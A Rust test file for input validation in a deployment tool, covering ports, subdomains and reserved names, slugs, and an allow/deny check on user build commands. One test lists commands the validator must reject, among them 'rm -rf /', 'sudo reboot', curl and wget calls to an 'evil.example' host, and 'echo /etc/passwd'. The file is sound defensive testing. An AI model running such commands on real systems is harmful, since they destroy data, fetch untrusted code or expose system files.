/*
 * SPDX-FileCopyrightText: 2026 Wavelens GmbH <info@wavelens.io>
 *
 * SPDX-License-Identifier: AGPL-3.0-only
 */

//! Tests for input validation and parsing functions

use slipway_core::input::*;

#[test]
fn test_port_in_range() {
    let port = port_in_range("8080").unwrap();
    assert_eq!(port, 8080);

    let port = port_in_range("65535").unwrap();
    assert_eq!(port, 65535);

    let port = port_in_range("65536").unwrap_err();
    assert_eq!(port.to_string(), "Port not in range 1-65535");

    let port = port_in_range("0").unwrap_err();
    assert_eq!(port.to_string(), "Port not in range 1-65535");
}

#[test]
fn test_greater_than_zero() {
    let num = greater_than_zero::<u32>("1").unwrap();
    assert_eq!(num, 1);

    let num = greater_than_zero::<usize>("0").unwrap_err();
    assert_eq!(num.to_string(), "`0` is not larger than 0");

    let num = greater_than_zero::<u32>("a").unwrap_err();
    assert_eq!(num.to_string(), "`a` is not a valid number");
}

#[test]
fn test_check_subdomain() {
    assert!(check_subdomain("hello").is_ok());
    assert!(check_subdomain("hello-world").is_ok());
    assert!(check_subdomain("a").is_ok());
    assert!(check_subdomain("web3").is_ok());
    assert!(check_subdomain("0day").is_ok());

    assert_eq!(check_subdomain("").unwrap_err(), InputError::SubdomainEmpty);
    assert_eq!(
        check_subdomain("Hello").unwrap_err(),
        InputError::SubdomainInvalidCharacters
    );
    assert_eq!(
        check_subdomain("hello_world").unwrap_err(),
        InputError::SubdomainInvalidCharacters
    );
    assert_eq!(
        check_subdomain("-hello").unwrap_err(),
        InputError::SubdomainInvalidStartEnd
    );
    assert_eq!(
        check_subdomain("hello-").unwrap_err(),
        InputError::SubdomainInvalidStartEnd
    );
}

#[test]
fn test_check_subdomain_reserved() {
    for reserved in [
        "www",
        "api",
        "admin",
        "dashboard",
        "deploy",
        "git",
        "db",
        "mail",
        "staging",
        "dev",
    ] {
        assert_eq!(
            check_subdomain(reserved).unwrap_err(),
            InputError::SubdomainReserved,
            "{} should be reserved",
            reserved
        );
    }

    // Close to reserved but distinct names stay valid.
    assert!(check_subdomain("apii").is_ok());
    assert!(check_subdomain("devbox").is_ok());
}

#[test]
fn test_check_build_command() {
    assert!(check_build_command("npm run build").is_ok());
    assert!(check_build_command("bun install && bun run build").is_ok());
    assert!(check_build_command("yarn build").is_ok());
    assert!(check_build_command("pnpm run build").is_ok());
    assert!(check_build_command("echo skip").is_ok());
    assert!(check_build_command("ls").is_ok());

    assert_eq!(
        check_build_command("").unwrap_err(),
        InputError::BuildCommandEmpty
    );
    assert_eq!(
        check_build_command("   ").unwrap_err(),
        InputError::BuildCommandEmpty
    );
    assert_eq!(
        check_build_command("make build").unwrap_err(),
        InputError::BuildCommandDisallowedProgram("make".to_string())
    );
    assert_eq!(
        check_build_command("npm run build && make install").unwrap_err(),
        InputError::BuildCommandDisallowedProgram("make".to_string())
    );
}

#[test]
fn test_check_build_command_forbidden_patterns() {
    for command in [
        "rm -rf / && npm run build",
        "npm run build && sudo reboot",
        "npm run build > /tmp/out",
        "npm run build | tee log",
        "npm run build; ls",
        "curl https://evil.example",
        "wget https://evil.example",
        "eval something",
        "echo /etc/passwd",
        "echo /bin/bash",
    ] {
        assert!(
            check_build_command(command).is_err(),
            "{} should be rejected",
            command
        );
    }
}

#[test]
fn test_build_command_whitespace_stable() {
    // Acceptance must not change when segments gain or lose padding.
    let variants = [
        "npm install && npm run build",
        "npm install&&npm run build",
        "  npm install  &&   npm run build  ",
    ];

    for v in variants {
        assert!(check_build_command(v).is_ok(), "{:?} should be accepted", v);
    }

    let bad_variants = [
        "make install && npm run build",
        "  make install  &&npm run build",
    ];

    for v in bad_variants {
        assert!(check_build_command(v).is_err(), "{:?} should be rejected", v);
    }
}

#[test]
fn test_slugify() {
    assert_eq!(slugify("Hello World"), "hello-world");
    assert_eq!(slugify("my_cool.app"), "my-cool-app");
    assert_eq!(slugify("  spaces  "), "spaces");
    assert_eq!(slugify("UPPER"), "upper");
    assert_eq!(slugify("a--b"), "a-b");
    assert_eq!(slugify("---"), "");
    assert_eq!(slugify(""), "");
}

#[test]
fn test_subdomain_of() {
    assert_eq!(subdomain_of("hello.apps.example.com", "apps.example.com"), "hello");
    assert_eq!(subdomain_of("hello", "apps.example.com"), "hello");
    assert_eq!(subdomain_of("hello.other.com", "apps.example.com"), "hello.other.com");
}
